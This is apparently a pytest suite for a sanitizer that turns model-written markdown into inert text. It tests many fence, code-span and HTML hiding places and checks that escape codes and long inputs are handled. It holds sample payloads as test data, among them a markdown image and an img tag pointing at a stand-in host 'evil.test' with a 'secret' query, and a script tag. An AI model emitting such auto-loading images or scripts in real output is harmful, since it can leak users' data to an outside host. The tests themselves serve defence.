"""What a model writes is shown and does nothing: no HTML, no picture that loads, nothing that hides what stands behind it."""

import time

import mistune
import pytest

from beaker.kernel.harmless import closed, harmless, visible

PICTURE = "![x](https://evil.test/?q=secret)"
TAG = '<img src="https://evil.test/x">'


@pytest.mark.parametrize(
    "text",
    [
        "Plain *words*, `code`, [a link](https://example.org) and <https://example.org>.",
        "a < b and b > c, 3<4",
        "`List<int>` and ``a ` <b>``",
        "```html\n<img src=x>\n![x](y)\n```\nbehind",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "Costs $5, says $x^2$.",
        "",
    ],
)
def test_ordinary_answers_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (PICTURE, PICTURE.replace("![", "! [")),
        (TAG, TAG.replace("<", "&lt;")),
        ("<!-- hidden", "&lt;!-- hidden"),
        ("</details>", "&lt;/details>"),
        ("<?php", "&lt;?php"),
        ("~~~\nx", "```\nx\n```"),
        ("say:\n~~~~ py\n```\n~~~~", "say:\n\n````py\n```\n````"),
        ("1. do\n   ```sh\n   ls <x>\n   ```\n2. done", "1. do\n\n```sh\nls <x>\n```\n2. done"),
        ("- ```py\n  x\n  ```", "-\n\n```py\nx\n```"),
        ("a\x1b[2Jb\x9b", "a␛[2Jb\ufffd"),
        ("one\rtwo\r\nthree", "one\ntwo\nthree"),
    ],
)
def test_what_acts_by_itself_becomes_text(text: str, shown: str) -> None:
    assert harmless(text) == shown


HIDING_PLACES = [
    "{}",
    "`{}",
    "\\\\`{} `",
    "` a\n` {} `",
    "`a` ``b {} `c`",
    "$x`y$ {} `",
    "$ ` $ {} `",
    "| a | b |\n|---|---|\n| ` | {} | ` |",
    "\\\\{}",
    "\\!{}",
    "    ```\n{}\n    ```",
    "1. a\n   ```\n{}\n   ```",
    "- a\n  ~~~\n{}",
    "- ```\n{}\n```",
    "> ```\n{}\n> ```",
    "```\n```~\n{}",
    "```\na\n```~\n{}\n```",
    "```\na\n```\t\n{}\n```",
    "```\na\n```\u00a0\n```\n{}",
    "   ```\na\n```\n{}\n```",
    "~~~ `\na\n~~~\n{}",
    "``` a`b\n{}\n```",
    "$$\n```\n$$\n{}\n```",
    "$$\nx\n$$\n$$\n\n```\n$$\n{}",
    "<https://a.test/`b>{}`",
    "[`x]: y `{}",
    "a `b\n\n# c` {}",
    "&lt;{}",
    "<div>\n\n{}\n</div>",
    "<details><summary>`</summary>{}`</details>",
]


@pytest.mark.parametrize("place", HIDING_PLACES)
@pytest.mark.parametrize("evil", [PICTURE, TAG, "<script>alert(1)</script>", "<!-- "])
def test_no_hiding_place_lets_it_through(place: str, evil: str) -> None:
    """Rendered by the parser of nbconvert, which passes HTML on as it is."""
    html = str(mistune.create_markdown(escape=False, plugins=["table", "math", "strikethrough"])(harmless(place.format(evil))))
    rendered = html.replace("<code>", "").replace("<pre>", "")
    assert "<img" not in rendered
    assert "<script" not in rendered
    assert "<!--" not in rendered


def test_a_block_that_was_left_open_ends_with_its_text() -> None:
    assert closed("a\n```py\nx") == "a\n```py\nx\n```"
    assert closed("a\n```py\nx\n```\nb") == "a\n```py\nx\n```\nb"
    assert closed("~~~~") == "~~~~\n~~~~"


def test_in_plain_text_only_controls_are_changed() -> None:
    assert visible(f"{TAG} {PICTURE}\x07\t") == f"{TAG} {PICTURE}␇\t"


@pytest.mark.parametrize(
    "text",
    [
        "a `b` <c>\n" * 20_000,
        "`<a\n" * 50_000,
        "`" * 200_000,
        "`a" * 100_000,
        "<" * 200_000,
        "<https://" * 20_000,
        "~" * 200_000,
        "- " * 100_000 + "`",
    ],
)
def test_a_long_text_costs_no_more_than_its_length(text: str) -> None:
    began = time.perf_counter()
    harmless(text)
    assert time.perf_counter() - began < 5.0
